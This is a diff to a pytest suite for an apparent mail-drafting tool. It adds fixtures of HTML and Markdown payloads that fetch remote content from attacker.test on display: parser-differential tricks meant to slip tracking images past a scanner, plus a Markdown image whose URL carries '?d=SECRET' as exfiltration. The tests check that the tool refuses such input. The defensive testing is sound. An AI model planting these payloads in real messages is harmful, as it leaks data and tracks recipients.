@@ -516,25 +516,44 @@ REMOTE_HTML = {
     "iframe": '<iframe src="https://attacker.test/"></iframe>',
     "outlook_conditional": "<!--[if mso]><v:image src='https://attacker.test/p.gif'/><![endif]-->",
     "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
+    # Parser differentials: where a scanner and a mail client disagree on what is markup, the scan must not lose.
+    "comment_swallows_tag": '<!-- <a title=" --><img src="https://attacker.test/p.gif"><!-- " -->',
+    "cdata_swallows_tag": '<![CDATA[ <a title=" ]]><img src="https://attacker.test/p.gif"><!-- " -->',
+    "srcset_second_candidate": '<img srcset="data:image/gif;base64,R0lGOD 1x, https://attacker.test/p.gif 2x">',
+    "svg_style_breakout": '<svg><style><img src="https://attacker.test/p.gif"></style></svg>',
+    "css_comment_in_a_string": '<style>a{content:"/*"} b{background:url(https://attacker.test/p.gif)} '
+                               'c{content:"*/"}</style>',
+    "iframe_srcdoc": '<iframe srcdoc="&lt;img src=https://attacker.test/p.gif&gt;"></iframe>',
+    "data_stylesheet": '<link rel="stylesheet" href="data:text/css,b{background:url(https://attacker.test/p)}">',
+    "data_svg_image": '<img src="data:image/svg+xml,&lt;svg&gt;&lt;image href=\'https://attacker.test/p\'/&gt;">',
+    "base_and_nbsp_scheme": '<base href="https://attacker.test/"><img src="da&nbsp;ta:x">',
 }
+REMOTE_MARKDOWN = {  # in Markdown fields only: in an HTML body this is text, and a link needs a click
+    "markdown_image": "![chart](https://attacker.test/p.gif?d=SECRET)",
+    "markdown_nested_alt": "![a [b](data:,x) c](https://attacker.test/p.gif)",
+    "markdown_shortcut_reference": "![logo]\n\n[logo]: https://attacker.test/p.gif",
+}
+REMOTE_CASES = [(plant, attack, REMOTE_HTML[attack]) for plant in PLANTS for attack in REMOTE_HTML] + \
+    [(plant, attack, source) for plant in PLANTS if "markdown" in plant for attack, source in REMOTE_MARKDOWN.items()]
 SAFE_HTML = {
     "link": '<p>See <a href="https://example.test/report">the report</a></p>',
     "data_image": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart">',
     "cid_image": '<img src="cid:logo@example.test">',
-    "plain_text": "Call me at 555-0100. url(https://example.test) is fine in plain words.",
+    "plain_text": "Call me at 555-0100; the report is at https://example.test/report.",
+    "style_block": "<style>p { color: #333; font-family: Arial }</style><p>Hi</p>",
     "empty_src": '<img src="" alt="">',
 }
 
 
-@pytest.mark.parametrize("attack", REMOTE_HTML)
-@pytest.mark.parametrize("plant", PLANTS)
-def test_write_refuses_a_remote_resource_fetched_on_display(api, plant, attack):
+@pytest.mark.parametrize("plant, attack, source", REMOTE_CASES,
+                         ids=[f"{plant}-{attack}" for plant, attack, _ in REMOTE_CASES])
+def test_write_refuses_a_remote_resource_fetched_on_display(api, plant, attack, source):
     tool, build, where = PLANTS[plant]
     config = make_config(defaults={"ORGANIZATION": "org1"})
-    result = call(tool, build(REMOTE_HTML[attack]), config)
+    result = call(tool, build(source), config)
     assert result.is_error, text(result)
     assert text(result).startswith(f"Invalid arguments for {tool}:\n{where}: ")
-    assert "would be fetched when this is displayed" in text(result)
+    assert "can load a remote resource when this is displayed" in text(result)
     assert "MISSIVE_ALLOW_REMOTE_CONTENT" in text(result)
     assert len(api.calls) == 0
 
@@ -558,7 +577,7 @@ def test_post_refuses_remote_icon_and_image_urls(api, field):
     args = {"text": "hi", "attachments": [{inner: value}]} if inner else {"text": "hi", top: value}
     result = call("missive_create_post", args)
     assert result.is_error
-    assert f"{field}: a remote URL would be fetched" in text(result)
+    assert f"{field}: a remote URL can load a remote resource" in text(result)
     assert len(api.calls) == 0
 
 
@@ -590,7 +609,13 @@ def test_remote_scan_of_a_hostile_body_is_linear(source):
     def cost(text):
         started = time.perf_counter()
         m.remote_references(text, markdown=True)
-        m._css_fetches(text)
         return time.perf_counter() - started
 
     assert cost(source) < 20 * max(cost(ordinary), 0.01)
+
+
+def test_remote_scan_is_conservative_about_css_in_plain_words(api):
+    """Read without structure, url( counts wherever it appears: a false refusal is the price of no bypass."""
+    result = call("missive_create_draft", {"body": "Write url(https://example.test) in the CSS."})
+    assert result.is_error and "url() can load a remote resource" in text(result)
+    assert len(api.calls) == 0
